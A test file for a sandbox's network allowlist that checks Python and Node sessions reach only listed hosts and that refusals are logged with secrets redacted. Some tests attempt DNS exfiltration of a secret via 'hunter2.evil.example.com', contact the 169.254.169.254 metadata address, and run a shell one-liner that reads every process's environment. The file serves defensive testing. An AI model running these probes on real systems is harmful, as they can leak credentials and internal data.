import { existsSync } from 'node:fs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Session } from '../driver.ts'
import { type TestNetwork, openTestNetwork } from '../test-network.ts'
import { invoke } from '../test-sessions.ts'

let network: TestNetwork
beforeAll(async () => {
  network = await openTestNetwork()
})
afterAll(() => network[Symbol.asyncDispose]())

const python = (code: string): Promise<Session> => network.sessions.python(code, { network: network.list })
const node = (code: string): Promise<Session> => network.sessions.node(code, { network: network.list })
/** What each line of Python gives, or the error that it raises. */
const PYTHON_TRIES = `
import socket, ssl, subprocess, http.client, urllib.request
def attempt(name, args):
    try:
        return TRIES[name](*args)
    except Exception as error:
        return f"{type(error).__name__}: {error}"
def connect(host, port):
    with socket.create_connection((host, port), timeout=5) as it:
        return it.recv(100).decode()
def over_http(host, port):
    it = http.client.HTTPConnection(host, port)
    it.request("GET", "/")
    return it.getresponse().read().decode()
def over_tls(host, port, authority):
    trusted = ssl.create_default_context(cadata=authority)
    # From 3.13 on Python wants identifiers of keys, which the certificates of these tests have not.
    trusted.verify_flags &= ~ssl.VERIFY_X509_STRICT
    return urllib.request.urlopen(f"https://{host}:{port}/", context=trusted).read().decode()
def bind(port):
    socket.socket().bind(("127.0.0.1", port))
    return "bound"
TRIES = {
    "connect": connect, "http.client": over_http, "tls": over_tls, "bind": bind,
    "urllib": lambda url: urllib.request.urlopen(url).read().decode(),
    "look up": lambda host: socket.gethostbyname(host),
    "run": lambda *argv: subprocess.run(argv, capture_output=True, text=True).stdout,
    "read": lambda path: open(path).read(),
}
def handler(tries):
    return [attempt(name, args) for name, *args in tries]
`
/** Of programs that know no proxy it is the usual one; not every machine has it. */
const HAS_CURL = existsSync('/usr/bin/curl')

async function tries(...wanted: unknown[][]): Promise<{ output: unknown; logs: string[] }> {
  const session = await python(PYTHON_TRIES)
  try {
    const { output, logs } = await invoke(session, wanted)
    return { output, logs: logs.map(({ stream, text }) => `${stream}: ${text}`) }
  } finally {
    await session.kill()
  }
}

test('Python: urllib, http.client, sockets and programs that know no proxy reach what is listed, with TLS too', async () => {
  const { http, https, plain } = network.ports
  const { output, logs } = await tries(
    ['urllib', `http://api.example.com:${http}/`],
    ['http.client', 'a.b.wild.example.com', http],
    ['tls', 'api.example.com', https, network.authority],
    ['connect', 'api.example.com', plain],
    ...(HAS_CURL ? [['run', '/usr/bin/curl', '-s', '--noproxy', '*', `http://api.example.com:${http}/`]] : []),
    ['look up', 'api.example.com'],
  )
  expect([logs, network.faults]).toEqual([[], []])
  expect(output).toEqual([
    `http for api.example.com:${http}`,
    `http for a.b.wild.example.com:${http}`,
    'over TLS',
    'hello',
    ...(HAS_CURL ? [`http for api.example.com:${http}`] : []),
    expect.stringMatching(/^127\.77\./),
  ])
})

test('Node: fetch, node:http, net and TLS', async () => {
  const session = await node(`
    import http from 'node:http'
    import net from 'node:net'
    import tls from 'node:tls'
    import { text } from 'node:stream/consumers'
    export async function execute({ ports, authority }) {
      const over = (options) => new Promise((resolve, reject) => http.get(options, (r) => resolve(text(r))).on('error', reject))
      const reply = await fetch('http://api.example.com:' + ports.http)
      const secured = tls.connect({ host: 'api.example.com', servername: 'api.example.com', port: ports.https, ca: authority })
      secured.end('GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: close\\r\\n\\r\\n')
      const refused = await fetch('http://evil.example.com/').catch((error) => error.cause.code)
      return [
        await reply.text(),
        await over({ host: 'a.b.wild.example.com', port: ports.http }),
        await text(net.connect(ports.plain, 'api.example.com')),
        (await text(secured)).includes('over TLS'),
        refused,
      ]
    }`)
  const { output } = await invoke(session, { ports: network.ports, authority: network.authority })
  const { http } = network.ports
  const reached = [`http for api.example.com:${http}`, `http for a.b.wild.example.com:${http}`, 'hello', true]
  expect(output).toEqual([...reached, 'ENOTFOUND'])
  await session.kill()
})

test('what is not listed is refused, its name never leaves the machine, and the log of the run says so', async () => {
  const { http, plain, other } = network.ports
  const { output, logs } = await tries(
    ['look up', 'evil.example.com'],
    ['look up', 'wild.example.com'],
    ['connect', 'evil.example.com', http],
    ['connect', 'api.example.com', other],
    ['connect', '127.0.0.1', other],
    ['connect', '127.0.0.1', plain],
    ['connect', '127.77.200.200', plain],
    ['connect', '169.254.169.254', 80],
    ['connect', '10.0.0.1', 443],
    ['connect', 'private.example.com', plain],
  )
  const unknown = expect.stringMatching(/^gaierror/)
  const unreachable = expect.stringContaining('Network is unreachable')
  // The way out has no answer for them, and closes.
  const closed = expect.stringMatching(/^(|ConnectionResetError.*)$/)
  expect(output).toEqual([
    unknown,
    unknown,
    unknown,
    expect.stringContaining('Connection refused'),
    expect.stringContaining('Connection refused'),
    closed,
    closed,
    unreachable,
    unreachable,
    closed,
  ])
  expect(network.dns.asked.filter((one) => /evil|\bwild\.example/.test(one.replace('a.b.wild', '')))).toEqual([])
  expect(logs.join('\n')).toMatch(/^system: network: evil\.example\.com was refused \(not in the network list\)/m)
  expect(logs.join('\n')).toMatch(/^system: network: wild\.example\.com was refused/m)
  expect(logs.join('\n')).toMatch(/^system: network: private\.example\.com:\d+ was refused \(.*private/m)
})

test('a secret that is sent as a name is not in the log', async () => {
  const session = await python(PYTHON_TRIES)
  const redactor = {
    redact: (text: string): string => text.replaceAll('hunter2', '***'),
    safeLength: (text: string): number => text.length,
    redactPiece: (text: string): string => text,
  }
  const { logs } = await invoke(session, [['look up', 'hunter2.evil.example.com']], { redactor })
  expect(logs.map(({ text }) => text).join()).toContain('***.evil.example.com was refused')
  await session.kill()
})

test('once the ports are open nobody may open another low one, and nothing is left of what did', async () => {
  const { output } = await tries(
    ['bind', 81],
    ['bind', 8081],
    ['read', '/proc/self/status'],
    ['run', '/bin/sh', '-c', 'cat /proc/*/environ | tr "\\0" "\\n" | grep NODE_CHANNEL; ls /proc/*/fd/13'],
    ['run', '/bin/ls', '/proc/self/fd'],
    ['look up', 'skillet'],
  )
  const [low, high, status, channel, fds, own] = output as string[]
  expect([low, high, own]).toEqual([expect.stringContaining('PermissionError'), 'bound', '127.0.0.1'])
  expect(status!.match(/^Cap\w+:.*$/gm)!.map((line) => line.split('\t'))).toEqual(
    ['CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'].map((name) => [`${name}:`, '0000000000000000']),
  )
  expect(channel).toBe('')
  // The last is the listing's own.
  expect(
    fds!
      .trim()
      .split('\n')
      .map(Number)
      .filter((fd) => fd > 5 && !INHERITED.has(fd)),
  ).toEqual([])
})

/** The test's own process may have got some from whoever started it; a server closes those. */
const INHERITED = new Set([251, 252, 253, 254, 255])

test('programs trust what the machine trusts, unless the deployment says otherwise; without a list nothing is said', async () => {
  const code = 'import os\ndef handler(_): return dict(os.environ)'
  const session = await python(code)
  expect((await invoke(session, null)).output).toMatchObject({
    SSL_CERT_FILE: expect.stringContaining('/etc/'),
    REQUESTS_CA_BUNDLE: expect.stringContaining('/etc/'),
  })
  const env = { REQUESTS_CA_BUNDLE: '/skill/own.pem' }
  expect((await invoke(session, null, { env })).output).toMatchObject(env)
  await session.kill()
  const without = await network.sessions.python(code)
  expect((await invoke(without, null)).output).toEqual({})
  await without.kill()
  const trusting = await node(
    "import tls from 'node:tls'\nexport const execute = () => tls.getCACertificates('extra').length",
  )
  expect((await invoke(trusting, null)).output).toBeGreaterThan(50)
  await trusting.kill()
})

test('when the way out is lost the run goes on, the session serves no other, and the next one has a new way out', async () => {
  const { plain } = network.ports
  const session = await python(`${PYTHON_TRIES}
import time
def handler(tries):
    before = connect(*tries)
    print("connected", flush=True)
    while connect_or_none(*tries): time.sleep(0.01)
    return before
def connect_or_none(*where):
    try:
        return connect(*where)
    except OSError:
        return None`)
  const { output, logs } = await invoke(session, ['api.example.com', plain], {
    onLine({ text }) {
      if (text === 'connected') process.kill(network.egressPid(), 'SIGKILL')
    },
  })
  expect(output).toBe('hello')
  expect(logs.map(({ text }) => text)).toContainEqual(expect.stringContaining('the way out was lost'))
  expect(session.usable).toBe(false)
  await session.kill()
  expect((await tries(['connect', 'api.example.com', plain])).output).toEqual(['hello'])
})
